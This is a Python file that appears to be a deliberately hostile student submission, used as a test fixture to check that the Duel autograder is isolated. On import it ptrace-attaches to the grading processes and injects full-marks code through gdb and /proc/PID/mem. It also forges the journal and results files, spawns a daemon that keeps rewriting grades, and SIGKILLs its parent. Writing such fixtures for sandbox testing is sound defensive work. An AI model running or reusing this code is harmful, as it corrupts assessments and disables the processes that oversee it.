"""hostile3243 h03: attacks the grader (tests/data/hostile3243/README.md).

Once a process (at import), it goes for the grader the way a submission did
when Duel ran students' code with the teacher's rights:

- targets: its parents (from /proc/PID/stat, up to the first that is not
  Duel's) and every process of Duel's whose command line names the
  grading's OUT folder (the folder two above its own, where the grader keeps
  its copy): the grader, its workers, the other students' children;
- on each: PTRACE_ATTACH (ctypes), an open of /proc/PID/mem for writing, and
  gdb -p injecting Python that gives every opponent full marks
  (`OpponentResult.marks`) and notes the injection in h3243-injected.txt in
  this folder;
- forged lines in OUT/journal.jsonl (a student `h3243-forged` and itself
  with 10 marks) and a rewritten OUT/results.json;
- a daemon (double fork + setsid, named h3243-daemon) that for 60 s keeps
  rewriting OUT/results.json and grades.md as they appear;
- last, SIGKILL to its parent when that is Duel's.

Only processes and paths it discovers that way: never pid 1, never kill(-1),
never a process whose command line does not name duel (the test runner, a
shell), so that even run unboxed by a test it can harm only that test's
grader and folders.
What it found and did goes to attack.log in its own folder. Then it plays
the plain mover's move.
"""

import ctypes
import json
import os
import pathlib
import signal
import subprocess
import sys

# The move choice (the plain mover's) and the class's kit, copied beside
# this file by the test.
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from plain_mover import *  # noqa: E402,F401,F403
from hostile_kit import *  # noqa: E402,F401,F403
HERE = os.path.dirname(os.path.abspath(__file__))


OUT = os.path.dirname(os.path.dirname(HERE))
INJECTED = os.path.join(HERE, "h3243-injected.txt")
PAYLOAD = (
    "import sys\n"
    "g = sys.modules.get('duel.cs3243.grader')\n"
    "if g is not None:\n"
    "    g.OpponentResult.marks = property(lambda self: float(self.opponent.marks))\n"
    f"open({INJECTED!r}, 'a').write('injected into %d\\n' % __import__('os').getpid())\n")
DAEMON = """
import os, sys, time
out = sys.argv[2]
end = time.time() + 60
while time.time() < end:
    for name in ("results.json", "grades.md"):
        path = os.path.join(out, name)
        try:
            if os.path.exists(path) and b"h3243" not in open(path, "rb").read():
                open(path, "a").write("\\nh3243-forged: 10.00\\n")
        except OSError:
            pass
    time.sleep(0.2)
"""


def name_this_process(name):
    """Sets the process's comm (what ps shows) to `name`."""
    try:
        ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)  # PR_SET_NAME
    except (OSError, AttributeError):
        pass


def targets():
    """Pids to attack: the grader's parents, and its processes naming OUT."""
    found = set(ancestors())
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in (1, os.getpid()):
            continue
        words = " ".join(proc_words(entry, "cmdline"))
        if OUT != "/" and OUT in words and "duel" in words:
            found.add(int(entry))
    return sorted(found - {1, os.getpid()})


def attach(pid):
    """PTRACE_ATTACH, /proc/PID/mem, gdb: what worked."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        say(f"grader ptrace attach {pid}: ATTACHED")
        try:
            os.waitpid(pid, 0x40000000)  # __WALL: its stop
        except OSError:
            pass
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    else:
        say(f"grader ptrace attach {pid}: failed (errno {ctypes.get_errno()})")
    try:
        with open(f"/proc/{pid}/mem", "r+b"):
            say(f"grader /proc/{pid}/mem: OPENED for writing")
    except OSError as e:
        say(f"grader /proc/{pid}/mem: failed ({e.strerror})")
    words = proc_words(pid, "cmdline")
    if not words or "python" not in os.path.basename(words[0]):
        return
    gdb = "/usr/bin/gdb"
    if not os.access(gdb, os.X_OK):
        say("grader gdb: not there")
        return
    command = f"call (int)PyRun_SimpleString({json.dumps(PAYLOAD)})"
    try:
        r = subprocess.run([gdb, "-p", str(pid), "-batch", "-nx", "-ex", command],
                           stdin=subprocess.DEVNULL, capture_output=True, timeout=15)
        say(f"grader gdb -p {pid}: status {r.returncode}")
    except (OSError, subprocess.SubprocessError) as e:
        say(f"grader gdb -p {pid}: failed ({type(e).__name__})")


def forge():
    """Forged journal lines and results in OUT."""
    me = os.path.basename(HERE)
    row = {"kind": "student", "error": "", "marks": 10.0, "max_marks": 10, "opponents": {},
           "notes": [], "forged": "h3243"}
    for name in ("h3243-forged", me):
        line = json.dumps(dict(row, key=f"student/{name}", student=name)) + "\n"
        try:
            with open(os.path.join(OUT, "journal.jsonl"), "a", encoding="utf-8") as f:
                f.write(line)
            say(f"grader journal: FORGED {name}")
        except OSError as e:
            say(f"grader journal: failed ({e.strerror})")
    try:
        pathlib.Path(OUT, "results.json").write_text('{"forged": "h3243"}\n')
        say("grader results.json: FORGED")
    except OSError as e:
        say(f"grader results.json: failed ({e.strerror})")


def daemon():
    """A process that outlives this one and rewrites the results as they appear."""
    try:
        first = os.fork()
        if first != 0:
            os.waitpid(first, 0)
            return
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        name_this_process("h3243-daemon")
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, "h3243-daemon", OUT])
    except OSError:
        os._exit(0)


def attack():
    """Everything above, then SIGKILL to the parent."""
    found = targets()
    say(f"grader targets {found}")
    for pid in found:
        attach(pid)
    forge()
    daemon()
    parent = os.getppid()
    if parent not in ancestors():
        say(f"grader kill parent: its parent, pid {parent}, is not the grader")
    else:
        try:
            os.kill(parent, signal.SIGKILL)
            say(f"grader kill parent {parent}: SENT")
        except OSError as e:
            say(f"grader kill parent {parent}: failed ({e.strerror})")


attack()




def studentAgent(gameboard):  # noqa: N802 - the hand-out's name
    """The hand-out's interface: the plain mover's move."""
    return choose(gameboard)
